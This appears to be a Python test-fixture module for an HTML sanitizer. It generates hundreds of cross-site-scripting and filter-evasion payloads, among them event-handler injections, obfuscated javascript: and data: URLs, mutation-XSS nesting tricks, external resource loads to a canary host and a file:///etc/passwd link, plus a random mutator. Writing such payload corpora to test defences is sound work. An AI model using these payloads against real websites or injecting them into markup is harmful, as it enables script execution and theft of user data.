"""Markup that tries to get something past the cleaner: the known ways of filter evasion, and mutations of them.

Each act of a payload, were it run, would call ``pwned()`` or ask ``https://canary.invalid``; the tests look for both.
"""

import random
from collections.abc import Iterator

CALL = "pwned()"
CANARY = "https://canary.invalid/x"

_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onbegin", "onanimationstart", "ontoggle"),
    *("onpointerrawupdate", "oncontentvisibilityautostatechange", "onbeforematch", "onscrollend"),
)
_TAGS = (
    *(
        "img",
        "svg",
        "body",
        "input",
        "details",
        "video",
        "audio",
        "iframe",
        "object",
        "embed",
        "math",
        "marquee",
    ),
    *("p", "a", "td", "table", "span", "h2", "li", "blockquote", "pre", "code", "hr", "br", "form", "button"),
)
_ADDRESSES = (
    *(f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}"),
    *(f" javascript:{CALL}", f"\x01javascript:{CALL}", f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}"),
    *(
        f"&#x6A;avascript:{CALL}",
        f"&#0000106avascript:{CALL}",
        f"jav&#x09;ascript:{CALL}",
        f"vbscript:{CALL}",
    ),
    *(
        f"data:text/html,<script>{CALL}</script>",
        f"data:text/html;base64,PHNjcmlwdD5{CALL}",
        f"//{CANARY[8:]}",
    ),
    *(
        f"https:javascript:{CALL}",
        f"feed:javascript:{CALL}",
        "file:///etc/passwd",
        "blob:https://x/y",
        "/\\canary.invalid",
    ),
    *(
        f'https://x.example/" onclick="{CALL}',
        f"https://x.example/' onclick='{CALL}",
        "view-source:https://x",
    ),
)
_WHOLE = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC={CANARY}></SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script/src=data:,{CALL}></script>",
    f"<script\x0c>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<math><mtext><table><mglyph><style><math><img src onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<textarea><img title="</textarea><img src=x onerror={CALL}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={CALL}>"></title>',
    f"<select><template><style><img src=x onerror={CALL}></style></template></select>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>"></xmp>',
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f'<?xml version="1.0"?><img src=x onerror={CALL}>',
    f"<!DOCTYPE html><img src=x onerror={CALL}>",
    f"<style>@import '{CANARY}';</style>",
    f"<link rel=stylesheet href={CANARY}>",
    f'<meta http-equiv=refresh content="0;url={CANARY}">',
    f"<base href={CANARY}><a href=x>x</a>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<object data={CANARY}></object><embed src={CANARY}>",
    f'<p style="background:url({CANARY})">x</p>',
    f'<span class="rt-color-red" style="background-image:url({CANARY})">x</span>',
    f'<span class="rt-color-red&quot; onclick=&quot;{CALL}">x</span>',
    f'<table background="{CANARY}"><tr><td background="{CANARY}">x</td></tr></table>',
    f'<img src="{CANARY}" srcset="{CANARY} 2x" alt=x>',
    f'<img data-file="0123456789abcdef0123456789abcdef" src="{CANARY}" onerror={CALL}>',
    f'<img data-file="../../{CANARY}">',
    f"<img data-file='0123456789abcdef0123456789abcdef' alt='\"><img src=x onerror={CALL}>'>",
    f"<picture><source srcset={CANARY}><img src={CANARY}></picture>",
    f"<video poster={CANARY}><source src={CANARY}></video><audio src={CANARY}></audio>",
    f'<a href="https://x.example/" ping="{CANARY}" target=_blank>x</a>',
    f"<input type=image src={CANARY} formaction=javascript:{CALL}><button formaction=javascript:{CALL}>x",
    f"<form action=javascript:{CALL}><input type=submit autofocus onfocus={CALL}></form>",
    f"<isindex action=javascript:{CALL} type=image><marquee onstart={CALL}>x</marquee>",
    f"<div contenteditable autofocus onfocus={CALL}>x</div><p tabindex=1 onfocus={CALL} autofocus>x</p>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<svg/onload={CALL}><svg onload={CALL}//<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{CALL}'/>#x\"></svg>",
    f'<a href="https://x.example/" id=cookie name=cookie data-controller=dialog hx-get={CANARY}>x</a>',
    f'<p hx-get="{CANARY}" hx-trigger=load data-hx-get="{CANARY}">x</p>',
    f'<p data-controller="editor" data-action="click->dialog#open">{CALL}</p>',
    f"<b><i></b><img src=x onerror={CALL}></i>",
    f"<table><td><p></table><img src=x onerror={CALL}>",
    f"<pre>\n\n<img src=x onerror={CALL}></pre>",
    f"<plaintext><img src=x onerror={CALL}>",
    f'<a href="https://x.example/?{CALL}<img src=x onerror={CALL}>">x</a>',
    '<a href="https://x.example/"><p>x<a href="https://y.example/">y</a></p></a>',
)


def known() -> list[str]:
    """The known ways, each tag with each handler and each address among them."""
    handlers = [f"<{tag} src=x {handler}={CALL}>x</{tag}>" for tag in _TAGS for handler in _HANDLERS]
    slashed = [f'<{tag}/{handler}="{CALL}"/>' for tag in _TAGS for handler in _HANDLERS]
    links = [f'<{tag} {name}="{address}">x</{tag}>' for tag, name in _LINKS for address in _ADDRESSES]
    return [*_WHOLE, *handlers, *slashed, *links]


_LINKS = (
    ("a", "href"),
    ("img", "src"),
    ("iframe", "src"),
    ("form", "action"),
    ("object", "data"),
    ("a", "xlink:href"),
)


def mutations(count: int, seed: int = 33) -> Iterator[str]:
    """Payloads cut, doubled, nested into each other and sprinkled with what readers of markup stumble over."""
    chance = random.Random(seed)  # noqa: S311 - the same payloads in each run
    seeds = known()
    noise = [
        "\0",
        "\x0c",
        "\t",
        "\n",
        "/",
        "<",
        ">",
        '"',
        "'",
        "`",
        "&",
        "&#0;",
        "\u3000",
        "<!--",
        "-->",
        "<p>",
        "</td>",
    ]
    for _ in range(count):
        text = chance.choice(seeds)
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(text) + 1)
            match chance.randrange(5):
                case 0:
                    text = text[:at] + chance.choice(noise) + text[at:]
                case 1:
                    text = text[:at] + chance.choice(seeds) + text[at:]
                case 2:
                    text = text[:at] + text[at + chance.randint(1, 3) :]
                case 3:
                    text = "".join(sign.swapcase() if chance.random() < 0.3 else sign for sign in text)
                case _:
                    tag = chance.choice(_TAGS)
                    text = f"<{tag}>{text}</{tag}>"
        yield text
